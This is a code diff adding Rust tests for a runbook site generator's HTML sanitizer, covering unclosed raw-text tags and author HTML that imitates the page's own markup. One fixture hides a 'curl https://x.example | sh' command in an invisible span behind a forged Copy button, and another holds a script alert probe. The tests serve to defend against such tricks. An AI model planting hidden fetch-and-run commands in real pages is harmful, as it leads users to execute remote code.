@@ -98,6 +98,119 @@ fn raw_html_is_sanitized_unless_allowed() {
     assert!(html.contains("onclick=\"alert(3)\""));
 }
 
+/// A raw-text tag left open in prose ("the <script> field") would take the
+/// rest of the page with it when sanitized: it shows as text, as on GitHub,
+/// and every section stays (audit 2). Other HTML is sanitized as before.
+#[test]
+fn a_tag_left_open_in_prose_loses_nothing_after_it() {
+    let mut files = Vec::new();
+    for tag in [
+        "script",
+        "style",
+        "title",
+        "plaintext",
+        "noscript",
+        "textarea",
+    ] {
+        let body = format!(
+            "## Steps\n\n1. Paste the token into the <{tag}> field.\n2. Click save.\n\n## Rollback\n\n```bash\nkubectl rollout undo deploy/web\n```\n"
+        );
+        files.push((
+            format!("{tag}.md"),
+            runbook(tag, "ops", "2026-11-01", &body),
+        ));
+    }
+    let closed = "## Steps\n\n<details>\n<summary>More</summary>\n\n```bash\nls\n```\n\n</details>\n\n<script>alert(1)</script> <scripts>kept</scripts>\n\n## Rollback\n\nundo\n";
+    files.push((
+        "closed.md".into(),
+        runbook("Closed", "ops", "2026-11-01", closed),
+    ));
+    let files: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(r, t)| (r.as_str(), t.as_str()))
+        .collect();
+    let tree = Tree::new(BOOK, &files);
+    let site = tree.build();
+    for tag in [
+        "script",
+        "style",
+        "title",
+        "plaintext",
+        "noscript",
+        "textarea",
+    ] {
+        let html = read(&site, &format!("{tag}.html"));
+        for want in [
+            format!("the &lt;{tag}&gt; field."),
+            "<li>Click save.</li>".into(),
+            "<h2 id=\"rollback\">".into(),
+            "kubectl rollout undo deploy/web".into(),
+            "class=\"copy\"".into(),
+        ] {
+            assert!(html.contains(&want), "{tag}: {want} in {html}");
+        }
+    }
+    let html = read(&site, "closed.html");
+    assert!(
+        html.contains("<details>\n<summary>More</summary>"),
+        "{html}"
+    );
+    assert!(html.contains("<h2 id=\"rollback\">"), "{html}");
+    // A closed `<script>` shows as text too, as on GitHub; a tag that only
+    // starts alike is any unknown tag: dropped, its text kept.
+    assert!(
+        html.contains("&lt;script&gt;alert(1)&lt;/script&gt; kept\n"),
+        "{html}"
+    );
+}
+
+/// Author HTML cannot make the page's own markup: no class the styles and
+/// scripts go by, no button, no input; so no Copy button that copies a
+/// hidden command (audit 3). The page's own copy buttons, task boxes and
+/// alerts stay, and `allow-html` keeps the author's HTML as written.
+#[test]
+fn author_html_cannot_pass_for_the_pages_own_markup() {
+    let body = "## Steps\n\n<div class=\"code\"><button type=\"button\" class=\"copy\">Copy</button><pre><code class=\"language-bash\">kubectl rollout restart deploy/api<span class=\"visually-hidden\" aria-hidden=\"true\"> &amp;&amp; curl https://x.example | sh</span>\n</code></pre></div>\n\n<input type=\"text\" value=\"x\"> <span class=\"cmd\">c</span> <b id=\"mine\">kept</b>\n\n- [x] done\n\n> [!WARNING]\n> Careful.\n\n```bash\nkubectl rollout undo deploy/api\n```\n";
+    let files = [("a.md", runbook("A", "ops", "2026-11-01", body))];
+    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
+    let html = read(&Tree::new(BOOK, &files).build(), "a.html");
+    let content = &html[html.find("id=\"rb:content\"").unwrap()..];
+    // One copy button: the page's, on its own code block.
+    assert_eq!(content.matches("<button").count(), 1, "{content}");
+    assert!(
+        content.contains("Copy</button>\n<pre><code class=\"language-bash\">kubectl rollout undo"),
+        "{content}"
+    );
+    for forged in [
+        "class=\"code\"><button type=\"button\" class=\"copy\">",
+        "visually-hidden",
+        "aria-hidden",
+        "class=\"cmd\"",
+        "type=\"text\"",
+    ] {
+        assert!(!content.contains(forged), "{forged} in {content}");
+    }
+    // The hidden part is plain text now, shown with the rest.
+    assert!(content.contains("<span> &amp;&amp; curl"), "{content}");
+    assert!(
+        content.contains("<code class=\"language-bash\">kubectl rollout restart"),
+        "{content}"
+    );
+    assert!(content.contains("<b id=\"mine\">kept</b>"), "{content}");
+    assert!(
+        content.contains("<input type=\"checkbox\" disabled=\"\" checked=\"\""),
+        "{content}"
+    );
+    assert!(
+        content.contains("<blockquote class=\"alert alert-warning\">"),
+        "{content}"
+    );
+
+    let allowed = Tree::new(&format!("{BOOK}\n[build]\nallow-html = true\n"), &files);
+    let html = read(&allowed.build(), "a.html");
+    assert!(html.contains("<span class=\"visually-hidden\" aria-hidden=\"true\">"));
+}
+
 #[test]
 fn md_links_become_page_links_with_fragments() {
     let restore = runbook(
